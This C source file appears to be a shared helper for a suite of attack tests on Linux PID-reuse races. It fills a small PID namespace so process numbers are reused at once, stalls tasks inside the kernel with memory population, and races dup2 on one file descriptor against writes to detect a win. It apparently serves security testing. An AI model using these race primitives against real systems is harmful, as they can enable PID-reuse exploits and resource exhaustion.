/* What the attacks with numbers that are used again at once share: a PID namespace in which no number is left.
 *
 * They need a small one (kernel.pid_max below LARGE), because with 32768 numbers and more the filling takes long; that costs an attacker
 * nothing but patience.
 */
#include "../attack.h"

enum { LARGE = 1000 };

static pid_t first, crowd[LARGE];
static int crowded;

static void end_of(pid_t pid)
{
    kill(pid, SIGKILL);
    waitpid(pid, NULL, 0);
}

static pid_t sleeper(void)
{
    pid_t pid = fork();
    if (pid)
        return pid;
    end_with_maker();
    for (;;)
        pause();
}

/* Takes every number that is left. */
static void fill(void)
{
    while (crowded < LARGE && (crowd[crowded] = sleeper()) > 0)
        crowded++;
}

/* Gives some of them back. */
static void make_room(int numbers)
{
    while (numbers-- > 0 && crowded > 0)
        end_of(crowd[--crowded]);
}

/* First of all: before anything is started that would be left behind. */
static void need_few_numbers(void)
{
    char text[32] = "";
    int fd = open("/proc/sys/kernel/pid_max", O_RDONLY);
    read(fd, text, sizeof text - 1);
    close(fd);
    if (fd < 0 || atoi(text) > LARGE)
        lacks("a PID namespace with few numbers (kernel.pid_max)");
    first = getpid();
    prctl(PR_SET_CHILD_SUBREAPER, 1);
}

/* Keeps a task in the kernel, where only SIGKILL reaches it, for some 0.2 s a gigabyte. */
__attribute__((unused)) static void be_deaf(size_t gigabytes)
{
    size_t size = gigabytes << 30;
    char *m = mmap(NULL, size, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
    madvise(m, size, MADV_NOHUGEPAGE);
    madvise(m, size, 22); /* MADV_POPULATE_READ, Linux 5.14 */
}

/* What is fought for: a number that one task writes B to while another, which shares the table, puts the pipe there. */
enum { NUMBER = 40 };
static int p[2], null;

__attribute__((unused)) static void begin_number(void)
{
    pipe2(p, O_NONBLOCK);
    null = open("/dev/null", O_WRONLY);
    dup2(null, NUMBER);
    write(p[1], "A", 1);
}

__attribute__((unused)) static int flip(void *stop)
{
    end_with_maker();
    while (!*(volatile int *)stop) {
        dup2(p[1], NUMBER);
        for (volatile int i = 0; i < 50; i++)
            ;
        dup2(null, NUMBER);
        for (volatile int i = 0; i < 50; i++)
            ;
    }
    _exit(0);
}

__attribute__((unused)) static int write_and_look(double seconds)
{
    int won = 0;
    for (double until = tries_until(seconds); now() < until && !won;) {
        for (int i = 0; i < 20; i++)
            write(NUMBER, "B", 1);
        won = foreign(p[0], 'A');
    }
    return won;
}
